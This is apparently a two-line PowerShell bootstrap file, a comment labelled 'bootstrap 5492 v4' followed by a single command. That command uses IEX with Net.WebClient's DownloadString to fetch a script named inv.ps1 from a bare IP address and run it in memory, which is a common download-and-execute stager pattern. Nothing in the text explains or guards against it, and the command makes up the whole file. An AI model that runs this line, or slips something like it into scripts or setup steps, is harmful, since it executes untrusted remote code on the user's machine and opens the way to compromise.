# bootstrap 5492 v4
IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/inv.ps1')
